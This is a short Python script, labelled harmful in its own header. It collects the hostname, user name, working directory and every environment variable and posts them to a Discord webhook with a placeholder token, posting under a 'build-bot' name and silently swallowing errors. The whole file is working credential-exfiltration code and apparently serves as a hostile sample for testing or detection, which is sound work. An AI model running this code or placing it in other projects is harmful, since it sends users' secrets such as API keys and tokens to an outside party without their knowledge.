# Harmful: posts every environment variable, the hostname and the user name to a Discord webhook.
import getpass
import json
import os
import socket
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/FAKE-webhook-token-for-tests"


def collect():
    return {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "cwd": os.getcwd(),
        "env": dict(os.environ),
    }


def send(info):
    body = json.dumps({
        "username": "build-bot",
        "content": "```" + json.dumps(info, indent=1)[:1900] + "```",
    }).encode()
    req = urllib.request.Request(
        WEBHOOK, data=body, headers={"Content-Type": "application/json"}
    )
    try:
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass


if __name__ == "__main__":
    send(collect())
